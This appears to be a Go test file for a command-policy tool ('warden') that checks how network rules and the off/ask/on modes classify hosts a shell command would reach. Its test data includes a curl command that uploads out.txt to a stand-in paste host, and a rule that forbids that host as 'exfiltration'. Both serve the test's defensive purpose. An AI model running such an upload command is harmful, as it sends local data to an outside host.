package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

type networkJSON struct {
	NetworkAccess string `json:"network_access"`
	Decision      string `json:"decision"`
	Network       []struct {
		Host     string `json:"host"`
		Port     int    `json:"port"`
		Protocol string `json:"protocol"`
		Decision string `json:"decision"`
		Rule     *struct {
			Host   string `json:"host"`
			Source string `json:"source"`
		} `json:"rule"`
		Reason string   `json:"reason"`
		Facts  []string `json:"facts"`
	} `json:"network"`
}

// policyNetwork runs policy check --json with an isolated home whose user
// rules are rules.
func policyNetwork(t *testing.T, home string, args ...string) (networkJSON, string, int) {
	t.Helper()
	cmd := exec.Command(wardenBin(t), append([]string{"policy", "check", "--json"}, args...)...)
	cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+filepath.Join(home, "config"), "XDG_STATE_HOME="+filepath.Join(home, "state"),
		"XDG_CACHE_HOME="+filepath.Join(home, "cache"), "HOME="+home)
	cmd.Dir = home
	stdout, stderr, code := runCmd(t, cmd)
	var p networkJSON
	if code == 0 {
		if err := json.Unmarshal([]byte(stdout), &p); err != nil {
			t.Fatalf("policy check output %q: %v", stdout, err)
		}
	}
	return p, stderr, code
}

// TestPolicyCheckNetwork: --network off|ask|on (and bare --network, and
// --network=MODE) is accepted; for a command that fetches, each destination
// the analysis sees is reported with what the network rules and the policy
// say, the rule's file:line, and the host facts.
func TestPolicyCheckNetwork(t *testing.T) {
	home := t.TempDir()
	rulesDir := filepath.Join(home, "config", "warden", "rules")
	os.MkdirAll(rulesDir, 0o755)
	os.WriteFile(filepath.Join(rulesDir, "net.rules"), []byte(`network_rule(host="*.npmjs.org", protocol="https", decision="allow")
network_rule(host="paste.example", decision="forbidden", justification="exfiltration")
`), 0o644)
	script := "npm install && curl -T out.txt http://paste.example:8080/up && pip install requests"

	p, stderr, code := policyNetwork(t, home, "--network", "ask", "--", "sh", "-c", script)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	type row struct {
		host     string
		port     int
		proto    string
		decision string
		rule     string
	}
	var got []row
	for _, n := range p.Network {
		r := row{n.Host, n.Port, n.Protocol, n.Decision, ""}
		if n.Rule != nil {
			r.rule = filepath.Base(n.Rule.Source)
		}
		got = append(got, r)
	}
	want := []row{
		{"registry.npmjs.org", 443, "https", "allow", "net.rules:1"},
		{"paste.example", 8080, "http", "forbidden", "net.rules:2"},
		{"pypi.org", 443, "https", "prompt", ""},
	}
	if p.NetworkAccess != "ask" || !reflect.DeepEqual(got, want) {
		t.Fatalf("network %s %+v\nwant %+v", p.NetworkAccess, got, want)
	}
	if !strings.Contains(p.Network[1].Reason, "forbidden by rule at") || !strings.Contains(p.Network[1].Reason, "exfiltration") ||
		!strings.Contains(strings.Join(p.Network[2].Facts, ";"), "a known package registry") ||
		!strings.Contains(strings.Join(p.Network[1].Facts, ";"), "not a known package registry") {
		t.Errorf("reasons and facts: %+v", p.Network)
	}

	// Under never, what no rule allows is refused; the allow rule still
	// holds (twin).
	p, _, _ = policyNetwork(t, home, "--approval", "never", "--network=ask", "--", "sh", "-c", "npm install && pip install requests")
	if len(p.Network) != 2 || p.Network[0].Decision != "allow" || p.Network[1].Decision != "forbidden" || !strings.Contains(p.Network[1].Reason, "approval policy is never") {
		t.Errorf("never: %+v", p.Network)
	}

	// off refuses everything, on allows everything, bare --network is on.
	for _, c := range []struct {
		args     []string
		mode     string
		decision string
	}{
		{[]string{"--network", "off"}, "off", "forbidden"},
		{[]string{"--network", "on"}, "on", "allow"},
		{[]string{"--network"}, "on", "allow"},
		{[]string{"--network=false"}, "off", "forbidden"},
		{nil, "ask", "prompt"},
	} {
		args := append(append([]string(nil), c.args...), "--", "curl", "https://example.org/x")
		p, stderr, code := policyNetwork(t, home, args...)
		if code != 0 || p.NetworkAccess != c.mode || len(p.Network) != 1 || p.Network[0].Decision != c.decision || p.Network[0].Host != "example.org" {
			t.Errorf("%q: exit %d %s %+v (%s)", c.args, code, p.NetworkAccess, p.Network, stderr)
		}
	}
	// A command that names no host has an empty list, not null.
	cmd := exec.Command(wardenBin(t), "policy", "check", "--json", "--", "ls")
	cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+filepath.Join(home, "config"), "XDG_STATE_HOME="+filepath.Join(home, "state"),
		"XDG_CACHE_HOME="+filepath.Join(home, "cache"), "HOME="+home)
	if out, _, _ := runCmd(t, cmd); !strings.Contains(out, `"network":[]`) {
		t.Errorf("ls: %s", out)
	}
	// A bad mode is a usage error naming the choices.
	if _, stderr, code := policyNetwork(t, home, "--network=maybe", "--", "ls"); code != exitUsage || !strings.Contains(stderr, "want off, ask or on") {
		t.Errorf("--network=maybe: exit %d %s", code, stderr)
	}
}
